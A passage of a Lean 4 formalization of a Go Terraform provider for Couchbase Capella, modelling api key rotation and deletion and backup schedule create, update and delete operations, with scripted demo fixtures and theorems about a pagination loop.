          ("Could not rotate api key id " ++ state.Id.String deps.Quote ++ " unexpected error: "
            ++ err.Error) }
      (resp, s)
    | .ok resourceIDs =>
      let organizationId := resourceIDs providerschema.OrganizationId
      let apiKeyId := resourceIDs providerschema.Id
      if plan.Rotate.IsNull || plan.Rotate.IsUnknown then
        let resp := { resp with
          Diagnostics := diag.AddError resp.Diagnostics "Error rotating api key"
            ("Could not rotate api key id " ++ state.Id.String deps.Quote
              ++ ": rotate value is not set") }
        (resp, s)
      else
        let notGreater : Bool :=
          if !state.Rotate.IsNull && !state.Rotate.IsUnknown then
            match plan.Rotate, state.Rotate with
            | .known planRotate, .known stateRotate => decide (big.Cmp planRotate stateRotate ≠ 1)
            | _, _ => false
          else false
        if notGreater then
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error rotating api key"
              ("Could not rotate api key id " ++ state.Id.String deps.Quote
                ++ ": plan rotate value is not greater than state rotate value") }
          (resp, s)
        else
          let rotateApiRequest : api.RotateApiKeyRequest := { Secret := none }
          let rotateApiRequest :=
            if !plan.Secret.IsNull || !plan.Secret.IsUnknown then
              ({ Secret := ValueStringPointer plan.Secret } : api.RotateApiKeyRequest)
            else rotateApiRequest
          let url := a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/"
            ++ apiKeyId ++ "/rotate"
          let cfg : api.EndpointCfg :=
            { Url := url, Method := http.MethodPost, SuccessStatus := http.StatusCreated }
          match a.Client ⟨cfg, some (api.Payload.RotateApiKeyRequest rotateApiRequest), a.Token,
              none⟩ s with
          | (.error err, s) =>
            let found := deps.CheckResourceNotFoundError err
            let resourceNotFound := found.1
            let errString := found.2
            if resourceNotFound then
              let resp := { resp with State := resp.State.RemoveResource }
              (resp, s)
            else
              let resp := { resp with
                Diagnostics := diag.AddError resp.Diagnostics "Error rotating api key"
                  ("Could not rotate api key id " ++ state.Id.String deps.Quote ++ ": "
                    ++ errString) }
              (resp, s)
          | (.ok response, s) =>
            match deps.UnmarshalRotate response.Body with
            | .error err =>
              let resp := { resp with
                Diagnostics := diag.AddError resp.Diagnostics "Error rotating api key"
                  ("Could not rotate api key id " ++ state.Id.String deps.Quote ++ ": "
                    ++ err.Error) }
              (resp, s)
            | .ok rotateApiKeyResponse =>
              match ApiKey.retrieveApiKey deps.toDeps a organizationId apiKeyId s with
              | (.error err, s) =>
                let resp := { resp with
                  Diagnostics := diag.AddError resp.Diagnostics "Error rotating api key"
                    ("Could not rotate api key id " ++ state.Id.String deps.Quote ++ ": "
                      ++ deps.ParseError err) }
                (resp, s)
              | (.ok currentState, s) =>
                let currentState :=
                  { currentState with Secret := Value.known rotateApiKeyResponse.SecretKey }
                let currentState :=
                  if !currentState.Id.IsNull && !currentState.Id.IsUnknown
                      && !currentState.Secret.IsNull && !currentState.Secret.IsUnknown then
                    { currentState with
                      Token := Value.known (deps.Base64
                        (ValueString currentState.Id ++ ":" ++ ValueString currentState.Secret)) }
                  else currentState
                let currentState := { currentState with Rotate := plan.Rotate }
                let currentState := ApiKey.retainResourcesIfOrgOwner plan currentState
                let set := resp.State.Set deps.codec currentState
                let resp := { resp with State := set.1 }
                let diags := set.2
                let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
                (resp, s)

/-- `(*ApiKey).Delete`; the log line written before the resource is removed is
left out. -/
def ApiKey.Delete {σ P R A : Type} (deps : Deps R A) (a : providerschema.Data σ P)
    (req : resource.DeleteRequest R) (resp : resource.DeleteResponse R) (s : σ) :
    resource.DeleteResponse R × σ :=
  let got := req.State.Get deps.codec
  let state := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (resp, s)
  else
    match state.Validate deps.errs deps.schema with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error deleting api key"
          ("Could not delete api key id " ++ state.Id.String deps.Quote ++ " unexpected error: "
            ++ err.Error) }
      (resp, s)
    | .ok resourceIDs =>
      let organizationId := resourceIDs providerschema.OrganizationId
      let apiKeyId := resourceIDs providerschema.Id
      let url := a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/" ++ apiKeyId
      let cfg : api.EndpointCfg :=
        { Url := url, Method := http.MethodDelete, SuccessStatus := http.StatusNoContent }
      match a.Client ⟨cfg, none, a.Token, none⟩ s with
      | (.error err, s) =>
        let found := deps.CheckResourceNotFoundError err
        let resourceNotFound := found.1
        let errString := found.2
        if resourceNotFound then
          let resp := { resp with State := resp.State.RemoveResource }
          (resp, s)
        else
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error deleting api key"
              ("Could not delete api key id " ++ state.Id.String deps.Quote
                ++ " unexpected error: " ++ errString) }
          (resp, s)
      | (.ok _, s) => (resp, s)

end resources

/-! ## `internal/resources/backup_schedule.go`: `Create`, `Update`, `Delete` -/

namespace resources

open basetypes

/-- `errorMessageAfterBackupScheduleCreation`. -/
def errorMessageAfterBackupScheduleCreation : String :=
  "Backup Schedule creation is successful, but encountered an error while checking the current" ++
  " state of the backup schedule. Please run `terraform plan` after 1-2 minutes to know the" ++
  " current backup schedule state. Additionally, run `terraform apply --refresh-only` to update" ++
  " the state from remote, unexpected error: "

/-- `errorMessageWhileBackupScheduleCreation`. -/
def errorMessageWhileBackupScheduleCreation : String :=
  "There is an error during backup schedule creation. Please check in Capella to see if any hanging resources" ++
  " have been created, unexpected error: "

/-- What `Create` and `Update` of `backup_schedule.go` take from outside the
files at hand, on top of `BackupScheduleDeps`. -/
structure BackupScheduleWriteDeps (R B X : Type) extends BackupScheduleDeps R B X where
  /-- The field `OrganizationId` of a `providerschema.BackupSchedule`. -/
  OrganizationId : B → StringValue
  /-- The field `ProjectId` of a `providerschema.BackupSchedule`. -/
  ProjectId : B → StringValue
  /-- The field `ClusterId` of a `providerschema.BackupSchedule`. -/
  ClusterId : B → StringValue
  /-- The field `Type` of a `providerschema.BackupSchedule`. -/
  Typ : B → StringValue
  /-- `errors.ErrOrganizationIdCannotBeEmpty`. -/
  ErrOrganizationIdCannotBeEmpty : GoError
  /-- `errors.ErrProjectIdCannotBeEmpty`. -/
  ErrProjectIdCannotBeEmpty : GoError
  /-- `errors.ErrClusterIdCannotBeEmpty`. -/
  ErrClusterIdCannotBeEmpty : GoError
  /-- `errors.ErrBucketIdCannotBeEmpty`. -/
  ErrBucketIdCannotBeEmpty : GoError

/-- `(*BackupSchedule).validateCreateBackupScheduleRequest`; `none` is a nil
error. -/
def BackupSchedule.validateCreateBackupScheduleRequest {R B X : Type}
    (deps : BackupScheduleWriteDeps R B X) (plan : B) : Option GoError :=
  if (deps.OrganizationId plan).IsNull then some deps.ErrOrganizationIdCannotBeEmpty
  else if (deps.ProjectId plan).IsNull then some deps.ErrProjectIdCannotBeEmpty
  else if (deps.ClusterId plan).IsNull then some deps.ErrClusterIdCannotBeEmpty
  else if (deps.BucketId plan).IsNull then some deps.ErrBucketIdCannotBeEmpty
  else none

/-- `(*BackupSchedule).Create`. The diagnostics of `GetAttribute` go to the
local `diags`, which is not read again before it is reassigned; the function
panics when `weeklySchedule` is left nil. -/
def BackupSchedule.Create {σ R B X : Type} (deps : BackupScheduleWriteDeps R B X)
    (b : providerschema.Data σ api.Payload)
    (req : resource.CreateRequest R) (resp : resource.CreateResponse R) (s : σ) :
    Outcome (resource.CreateResponse R) × σ :=
  let got := req.Plan.Get deps.codec
  let plan := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (.returned resp, s)
  else
    match BackupSchedule.validateCreateBackupScheduleRequest deps plan with
    | some err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics
          "Error parsing create backup schedule request"
          ("Could not create backup schedule " ++ err.Error) }
      (.returned resp, s)
    | none =>
      let organizationId := ValueString (deps.OrganizationId plan)
      let projectId := ValueString (deps.ProjectId plan)
      let clusterId := ValueString (deps.ClusterId plan)
      let bucketId := ValueString (deps.BucketId plan)
      let attr := deps.GetWeeklySchedule req.Config.Raw
      let _diags := diag.Append diags attr.2
      match attr.1 with
      | none => (.panicked "invalid memory address or nil pointer dereference", s)
      | some weeklySchedule =>
        let BackupScheduleRequest : scheduleapi.CreateBackupScheduleRequest :=
          { Typ := ValueString (deps.Typ plan)
            WeeklySchedule :=
              { DayOfWeek := ValueString weeklySchedule.DayOfWeek
                StartAt := ValueInt64 weeklySchedule.StartAt
                IncrementalEvery := ValueInt64 weeklySchedule.IncrementalEvery
                RetentionTime := ValueString weeklySchedule.RetentionTime
                CostOptimizedRetention := ValueBool weeklySchedule.CostOptimizedRetention } }
        let url := b.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/projects/"
          ++ projectId ++ "/clusters/" ++ clusterId ++ "/buckets/" ++ bucketId
          ++ "/backup/schedules"
        let cfg : api.EndpointCfg :=
          { Url := url, Method := http.MethodPost, SuccessStatus := http.StatusAccepted }
        match b.Client ⟨cfg, some (api.Payload.CreateBackupScheduleRequest BackupScheduleRequest),
            b.Token, none⟩ s with
        | (.error err, s) =>
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error executing request"
              (errorMessageWhileBackupScheduleCreation ++ deps.ParseError err) }
          (.returned resp, s)
        | (.ok _, s) =>
          let set := resp.State.Set deps.codec plan
          let resp := { resp with State := set.1 }
          let diags := set.2
          let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
          if diag.HasError resp.Diagnostics then (.returned resp, s)
          else
            match BackupSchedule.retrieveBackupSchedule deps.toBackupScheduleDeps b organizationId
                projectId clusterId bucketId (ValueString weeklySchedule.DayOfWeek) s with
            | (.panicked msg, s) => (.panicked msg, s)
            | (.returned (.error err), s) =>
              let resp := { resp with
                Diagnostics := diag.AddWarning resp.Diagnostics
                  "Error Reading Capella Backup Schedule"
                  ("Could not read Capella Backup Schedule for the bucket: %s " ++ bucketId
                    ++ "." ++ errorMessageAfterBackupScheduleCreation ++ deps.ParseError err) }
              (.returned resp, s)
            | (.returned (.ok refreshedState), s) =>
              let set := resp.State.Set deps.codec refreshedState
              let resp := { resp with State := set.1 }
              let diags := set.2
              let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
              (.returned resp, s)

/-- `(*BackupSchedule).Update`; the log line written before the resource is
removed is left out. The diagnostics of `GetAttribute` go to the local `diags`,
which is not read again before it is reassigned; the function panics when
`weeklySchedule` is left nil. -/
def BackupSchedule.Update {σ R B X : Type} (deps : BackupScheduleWriteDeps R B X)
    (b : providerschema.Data σ api.Payload)
    (req : resource.UpdateRequest R) (resp : resource.UpdateResponse R) (s : σ) :
    Outcome (resource.UpdateResponse R) × σ :=
  let got := req.Plan.Get deps.codec
  let plan := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (.returned resp, s)
  else
    match deps.Validate plan with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error updating backup schedule"
          ("Could not update backup schedule for bucket" ++ (deps.BucketId plan).String deps.Quote
            ++ ": " ++ err.Error) }
      (.returned resp, s)
    | .ok resourceIDs =>
      let organizationId := resourceIDs providerschema.OrganizationId
      let projectId := resourceIDs providerschema.ProjectId
      let clusterId := resourceIDs providerschema.ClusterId
      let bucketId := resourceIDs providerschema.BucketId
      let attr := deps.GetWeeklySchedule req.Config.Raw
      let _diags := diag.Append diags attr.2
      match attr.1 with
      | none => (.panicked "invalid memory address or nil pointer dereference", s)
      | some weeklySchedule =>
        let BackupScheduleRequest : scheduleapi.UpdateBackupScheduleRequest :=
          { Typ := ValueString (deps.Typ plan)
            WeeklySchedule :=
              { DayOfWeek := ValueString weeklySchedule.DayOfWeek
                StartAt := ValueInt64 weeklySchedule.StartAt
                IncrementalEvery := ValueInt64 weeklySchedule.IncrementalEvery
                RetentionTime := ValueString weeklySchedule.RetentionTime
                CostOptimizedRetention := ValueBool weeklySchedule.CostOptimizedRetention } }
        let url := b.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/projects/"
          ++ projectId ++ "/clusters/" ++ clusterId ++ "/buckets/" ++ bucketId
          ++ "/backup/schedules"
        let cfg : api.EndpointCfg :=
          { Url := url, Method := http.MethodPut, SuccessStatus := http.StatusNoContent }
        match b.Client ⟨cfg, some (api.Payload.UpdateBackupScheduleRequest BackupScheduleRequest),
            b.Token, none⟩ s with
        | (.error err, s) =>
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error updating backup schedule"
              ("Could not update backup schedule for bucket"
                ++ (deps.BucketId plan).String deps.Quote ++ ": " ++ deps.ParseError err) }
          (.returned resp, s)
        | (.ok _, s) =>
          match BackupSchedule.retrieveBackupSchedule deps.toBackupScheduleDeps b organizationId
              projectId clusterId bucketId (ValueString weeklySchedule.DayOfWeek) s with
          | (.panicked msg, s) => (.panicked msg, s)
          | (.returned (.error err), s) =>
            let found := deps.CheckResourceNotFoundError err
            let resourceNotFound := found.1
            let errString := found.2
            if resourceNotFound then
              let resp := { resp with State := resp.State.RemoveResource }
              (.returned resp, s)
            else
              let resp := { resp with
                Diagnostics := diag.AddError resp.Diagnostics "Error reading backup schedule"
                  ("Could not read backup schedule for bucket"
                    ++ (deps.BucketId plan).String deps.Quote ++ ": " ++ errString) }
              (.returned resp, s)
          | (.returned (.ok currentState), s) =>
            let set := resp.State.Set deps.codec currentState
            let resp := { resp with State := set.1 }
            let diags := set.2
            let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
            (.returned resp, s)

/-- `(*BackupSchedule).Delete`; the log line written before the resource is
removed is left out. -/
def BackupSchedule.Delete {σ P R B X : Type} (deps : BackupScheduleDeps R B X)
    (b : providerschema.Data σ P)
    (req : resource.DeleteRequest R) (resp : resource.DeleteResponse R) (s : σ) :
    resource.DeleteResponse R × σ :=
  let got := req.State.Get deps.codec
  let state := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (resp, s)
  else
    match deps.Validate state with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error deleting backup schedule"
          ("Could not delete backup schedule with bucket id "
            ++ (deps.BucketId state).String deps.Quote ++ " unexpected error: " ++ err.Error) }
      (resp, s)
    | .ok resourceIDs =>
      let organizationId := resourceIDs providerschema.OrganizationId
      let projectId := resourceIDs providerschema.ProjectId
      let clusterId := resourceIDs providerschema.ClusterId
      let bucketId := resourceIDs providerschema.BucketId
      let url := b.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/projects/"
        ++ projectId ++ "/clusters/" ++ clusterId ++ "/buckets/" ++ bucketId
        ++ "/backup/schedules"
      let cfg : api.EndpointCfg :=
        { Url := url, Method := http.MethodDelete, SuccessStatus := http.StatusAccepted }
      match b.Client ⟨cfg, none, b.Token, none⟩ s with
      | (.error err, s) =>
        let found := deps.CheckResourceNotFoundError err
        let resourceNotFound := found.1
        let errString := found.2
        if resourceNotFound then
          let resp := { resp with State := resp.State.RemoveResource }
          (resp, s)
        else
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error deleting backup schedule"
              ("Could not delete backup schedule with bucket id "
                ++ (deps.BucketId state).String deps.Quote ++ " unexpected error: "
                ++ errString) }
          (resp, s)
      | (.ok _, s) => (resp, s)

end resources

/-! ## Examples for the mutating operations -/

/-! ## The bodies of the mutating requests -/

namespace resources

open basetypes

/-- The body `ApiKey.Create` hands to the executor (`apiKeyRequest`, apikey.go
96-131) for a plan whose resources have converted to `convertedResources` and
whose allowed CIDRs, when set, have converted: `Description`, `Expiry` and
`AllowedCIDRs` are set from known values only. -/
def ApiKey.createBody {R A : Type} (deps : WriteDeps R A) (plan : providerschema.ApiKey)
    (convertedResources : Slice api.ResourcesItems) : api.Payload :=
  api.Payload.CreateApiKeyRequest
    { Name := ValueString plan.Name
      OrganizationRoles := ApiKey.convertOrganizationRoles plan.OrganizationRoles
      Description :=
        if !plan.Description.IsNull && !plan.Description.IsUnknown then
          ValueStringPointer plan.Description
        else none
      Expiry :=
        match plan.Expiry with
        | .known expiry => some (deps.Float32 expiry)
        | _ => none
      Resources := some convertedResources
      AllowedCIDRs :=
        if !plan.AllowedCIDRs.IsNull && !plan.AllowedCIDRs.IsUnknown then
          some (ApiKey.convertAllowedCidrs deps plan.AllowedCIDRs).1
        else none }

/-- The body `ApiKey.Update` hands to the executor (`rotateApiRequest`, apikey.go
286-291). -/
def ApiKey.rotateBody (plan : providerschema.ApiKey) : api.Payload :=
  api.Payload.RotateApiKeyRequest
    (if !plan.Secret.IsNull || !plan.Secret.IsUnknown then
      { Secret := ValueStringPointer plan.Secret }
    else { Secret := none })

/-- The body `BackupSchedule.Create` hands to the executor
(`BackupScheduleRequest`, backup_schedule.go 84-93). -/
def BackupSchedule.createBody {R B X : Type} (deps : BackupScheduleWriteDeps R B X) (plan : B)
    (weeklySchedule : providerschema.WeeklySchedule) : api.Payload :=
  api.Payload.CreateBackupScheduleRequest
    { Typ := ValueString (deps.Typ plan)
      WeeklySchedule :=
        { DayOfWeek := ValueString weeklySchedule.DayOfWeek
          StartAt := ValueInt64 weeklySchedule.StartAt
          IncrementalEvery := ValueInt64 weeklySchedule.IncrementalEvery
          RetentionTime := ValueString weeklySchedule.RetentionTime
          CostOptimizedRetention := ValueBool weeklySchedule.CostOptimizedRetention } }

/-- The body `BackupSchedule.Update` hands to the executor
(`BackupScheduleRequest`, backup_schedule.go 221-230). -/
def BackupSchedule.updateBody {R B X : Type} (deps : BackupScheduleWriteDeps R B X) (plan : B)
    (weeklySchedule : providerschema.WeeklySchedule) : api.Payload :=
  api.Payload.UpdateBackupScheduleRequest
    { Typ := ValueString (deps.Typ plan)
      WeeklySchedule :=
        { DayOfWeek := ValueString weeklySchedule.DayOfWeek
          StartAt := ValueInt64 weeklySchedule.StartAt
          IncrementalEvery := ValueInt64 weeklySchedule.IncrementalEvery
          RetentionTime := ValueString weeklySchedule.RetentionTime
          CostOptimizedRetention := ValueBool weeklySchedule.CostOptimizedRetention } }

end resources

namespace demo

/-- The scripted service of `scripted`, for clients that send payloads. -/
def scriptedAny : api.Client (List (Except GoError api.Response)) api.Payload :=
  fun _ s =>
    match s with
    | [] => (.error (.value "*net.OpError" "connection refused"), [])
    | reply :: rest => (reply, rest)

/-- The configured provider data of the examples, for the mutating
operations. -/
def dataAny : providerschema.Data (List (Except GoError api.Response)) api.Payload :=
  ⟨"https://h", "tok", scriptedAny⟩

/-- The dependencies of `Create` and `Update` of `apikey.go` in the examples:
every text counts as trimmed and as a UUID, the body `1` decodes. -/
def writeDeps : resources.WriteDeps providerschema.ApiKey Unit where
  toDeps := deps
  ErrNotTrimmed := errors.New "must not have leading or trailing spaces"
  IsTrimmed := fun _ => true
  Float32 := fun x => x
  ParseUUID := fun text => .ok ⟨text⟩
  ElementsAs := fun set =>
    match set with
    | .known elements => (elements, [])
    | _ => ([], [])
  UnmarshalCreate := fun body =>
    match body with
    | [1] => .ok ⟨"key-1", "token-1"⟩
    | _ => .error (.value "*json.SyntaxError" "unexpected end of JSON input")
  UnmarshalRotate := fun body =>
    match body with
    | [1] => .ok ⟨"secret-2"⟩
    | _ => .error (.value "*json.SyntaxError" "unexpected end of JSON input")
  Base64 := fun text => "base64:" ++ text

/-- The plan of an api key to create: the computed attributes are unknown. -/
def apiKeyPlan : providerschema.ApiKey where
  Expiry := .known 30
  Rotate := .null
  AllowedCIDRs := .known [.known "10.0.0.0/8"]
  OrganizationId := .known "org-1"
  Audit := .unknown
  Description := .known ""
  Id := .unknown
  Name := .known "ci"
  Secret := .null
  Token := .unknown
  OrganizationRoles := some [.known "organizationMember"]
  Resources := none

/-- The plan of a first rotation that leaves the secret to the server: `rotate`
is set to 1 and `secret` is unknown. -/
def rotatePlan : providerschema.ApiKey :=
  { apiKey with Rotate := .known 1, Secret := .unknown }

/-- A weekly schedule as configured. -/
def weeklySchedule : providerschema.WeeklySchedule :=
  ⟨.known "sunday", .known 10, .known 4, .known "90days", .known false⟩

/-- The dependencies of `backup_schedule.go` in the examples, with a configured
weekly schedule. -/
def backupDepsWeekly : resources.BackupScheduleDeps BackupSchedule BackupSchedule Unit :=
  { backupDeps with GetWeeklySchedule := fun _ => (some weeklySchedule, []) }

/-- The dependencies of `Create` and `Update` of `backup_schedule.go` in the
examples. -/
def backupWriteDeps :
    resources.BackupScheduleWriteDeps BackupSchedule BackupSchedule Unit where
  toBackupScheduleDeps := backupDepsWeekly
  OrganizationId := fun b => b.OrganizationId
  ProjectId := fun b => b.ProjectId
  ClusterId := fun b => b.ClusterId
  Typ := fun _ => .known "weekly"
  ErrOrganizationIdCannotBeEmpty := errors.New "organization ID cannot be empty"
  ErrProjectIdCannotBeEmpty := errors.New "project ID cannot be empty"
  ErrClusterIdCannotBeEmpty := errors.New "cluster ID cannot be empty"
  ErrBucketIdCannotBeEmpty := errors.New "bucket ID cannot be empty"

/-- An error diagnostic of reading the attribute `weekly_schedule`. -/
def attributeError : diag.Diagnostic :=
  ⟨.Error, "Value Conversion Error", "weekly_schedule: unhandled unknown value",
    some "weekly_schedule"⟩

/-- The dependencies of `backup_schedule.go` in the examples, when reading the
attribute `weekly_schedule` fails and leaves the target nil. -/
def backupDepsAttrError : resources.BackupScheduleDeps BackupSchedule BackupSchedule Unit :=
  { backupDeps with GetWeeklySchedule := fun _ => (none, [attributeError]) }

/-- The dependencies of `Create` and `Update` of `backup_schedule.go` in the
examples, when reading the attribute `weekly_schedule` fills the target and
reports an error. -/
def backupWriteDepsAttrError :
    resources.BackupScheduleWriteDeps BackupSchedule BackupSchedule Unit :=
  { backupWriteDeps with
    GetWeeklySchedule := fun _ => (some weeklySchedule, [attributeError]) }

end demo

namespace demo

/-- The resources of a plan, with the ids `c`, `a`, `b`. -/
def planResources : List providerschema.ApiKeyResourcesItems :=
  [item "c" "projectViewer", item "a" "projectOwner", item "b" "projectManager"]

/-- The resources of a response, with the ids `a`, `b`, `c`. -/
def responseResources : List providerschema.ApiKeyResourcesItems :=
  [item "a" "projectOwner", item "b" "projectManager", item "c" "projectViewer"]

end demo

namespace demo

/-- A plan of an api key to create that sets `secret`, which only a rotation
may do. -/
def apiKeyPlanWithSecret : providerschema.ApiKey :=
  { apiKeyPlan with Secret := .known "s3cret" }

end demo

namespace demo

/-- A resource item whose id is null. -/
def nullIdItem : providerschema.ApiKeyResourcesItems :=
  { Id := .null, Typ := .known "project", Roles := some [.known "projectViewer"] }

/-- A resource item whose id is the known empty text. -/
def emptyIdItem : providerschema.ApiKeyResourcesItems :=
  { Id := .known "", Typ := .known "project", Roles := some [.known "projectOwner"] }

end demo

namespace demo

/-- The answer of the service to a request whose body it rejects. -/
def badRequest : GoError := .value "*api.Error" "bad request"

/-- A scripted service that reads the body of a request: it refuses, without
using up a reply, the creation of an api key without a name, a rotation to the
empty secret and a backup schedule without a day of the week; it answers every
other request with the next canned reply. -/
def checkingAny : api.Client (List (Except GoError api.Response)) api.Payload :=
  fun call s =>
    match call.payload with
    | some (.CreateApiKeyRequest request) =>
      if request.Name = "" then (.error badRequest, s) else scriptedAny call s
    | some (.RotateApiKeyRequest request) =>
      if request.Secret = some "" then (.error badRequest, s) else scriptedAny call s
    | some (.CreateBackupScheduleRequest request) =>
      if request.WeeklySchedule.DayOfWeek = "" then (.error badRequest, s)
      else scriptedAny call s
    | some (.UpdateBackupScheduleRequest request) =>
      if request.WeeklySchedule.DayOfWeek = "" then (.error badRequest, s)
      else scriptedAny call s
    | none => scriptedAny call s

/-- The configured provider data of the examples, with the service that reads
the bodies. -/
def dataChecked : providerschema.Data (List (Except GoError api.Response)) api.Payload :=
  ⟨"https://h", "tok", checkingAny⟩

end demo

/-! ## Theorems -/

namespace api

/-! ### The pagination loop, one iteration at a time -/

theorem Sprintd_perPage : fmt.Sprintd 25 = "25" := by decide

/-- The configuration an iteration sends is the one of `pageCall`, whatever the
loop variable `cfg` held before, provided its success status is the caller's. -/
theorem GetPaginated.cfg_eq {P : Type} (cfg cfgL : EndpointCfg) (token sortBy : String) (p : Int)
    (h : cfgL.SuccessStatus = cfg.SuccessStatus) :
    ({ (if sortBy ≠ "" then
          { ({ cfgL with
                Url := cfg.Url ++ ("?page=" ++ fmt.Sprintd p ++ "&perPage=" ++ fmt.Sprintd 25) } :
              EndpointCfg) with
            Url := ({ cfgL with
                Url := cfg.Url ++ ("?page=" ++ fmt.Sprintd p ++ "&perPage=" ++ fmt.Sprintd 25) } :
              EndpointCfg).Url ++ ("&sortBy=" ++ sortBy) }
        else { cfgL with
          Url := cfg.Url ++ ("?page=" ++ fmt.Sprintd p ++ "&perPage=" ++ fmt.Sprintd 25) }) with
        Method := http.MethodGet } : EndpointCfg)
      = (pageCall (P := P) cfg token sortBy p).cfg := by
  have h25 : "&perPage=" ++ "25" = "&perPage=25" := by decide
  by_cases hs : sortBy = ""
  · simp [pageCall, pageUrl, hs, h, Sprintd_perPage, http.MethodGet, String.append_assoc, h25]
  · simp [pageCall, pageUrl, hs, h, Sprintd_perPage, http.MethodGet, String.append_assoc, h25]

theorem GetPaginated.loop_succ {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgL : EndpointCfg) (h : cfgL.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s : σ) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (fuel + 1) cfgL acc p s
      = match client (pageCall cfg token sortBy p) s with
        | (.error err, s1) => (some ([], some (fmt.Errorf_s_w errs.ErrExecutingRequest err)), s1)
        | (.ok response, s1) =>
          match Unmarshal response.Body with
          | .error err =>
            (some ([], some (fmt.Errorf_s_w errs.ErrUnmarshallingResponse err)), s1)
          | .ok decoded =>
            if decoded.Cursor.Pages.Next = 0 then (some (acc ++ decoded.Data, none), s1)
            else GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel
              (pageCall (P := P) cfg token sortBy p).cfg (acc ++ decoded.Data)
              decoded.Cursor.Pages.Next s1 := by
  rw [GetPaginated.loop]
  simp only []
  rw [GetPaginated.cfg_eq (P := P) cfg cfgL token sortBy p h]
  rfl

/-- An iteration whose request fails. -/
theorem GetPaginated.loop_exec_error {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgL : EndpointCfg) (h : cfgL.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s s1 : σ) (e : GoError)
    (hreq : client (pageCall cfg token sortBy p) s = (.error e, s1)) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (fuel + 1) cfgL acc p s
      = (some ([], some (fmt.Errorf_s_w errs.ErrExecutingRequest e)), s1) := by
  rw [GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgL h, hreq]

/-- An iteration whose response body does not decode. -/
theorem GetPaginated.loop_decode_error {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgL : EndpointCfg) (h : cfgL.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s s1 : σ) (r : Response) (d : GoError)
    (hreq : client (pageCall cfg token sortBy p) s = (.ok r, s1))
    (hdec : Unmarshal r.Body = .error d) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (fuel + 1) cfgL acc p s
      = (some ([], some (fmt.Errorf_s_w errs.ErrUnmarshallingResponse d)), s1) := by
  rw [GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgL h, hreq]
  simp only [hdec]

/-- An iteration that decodes the last page. -/
theorem GetPaginated.loop_last {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgL : EndpointCfg) (h : cfgL.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s s1 : σ) (r : Response) (env : overlay (List T))
    (hreq : client (pageCall cfg token sortBy p) s = (.ok r, s1))
    (hdec : Unmarshal r.Body = .ok env) (hnext : env.Cursor.Pages.Next = 0) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (fuel + 1) cfgL acc p s
      = (some (acc ++ env.Data, none), s1) := by
  rw [GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgL h, hreq]
  simp only [hdec, hnext, if_true]

/-- An iteration that decodes a page naming a further one. -/
theorem GetPaginated.loop_more {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgL : EndpointCfg) (h : cfgL.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s s1 : σ) (r : Response) (env : overlay (List T))
    (hreq : client (pageCall cfg token sortBy p) s = (.ok r, s1))
    (hdec : Unmarshal r.Body = .ok env) (hnext : env.Cursor.Pages.Next ≠ 0) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (fuel + 1) cfgL acc p s
      = GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel
          (pageCall (P := P) cfg token sortBy p).cfg (acc ++ env.Data)
          env.Cursor.Pages.Next s1 := by
  rw [GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgL h, hreq]
  simp only [hdec, hnext, if_false]

/-- The loop does not look at the `Url` and `Method` its variable `cfg` holds
on entry: both are assigned before they are read. -/
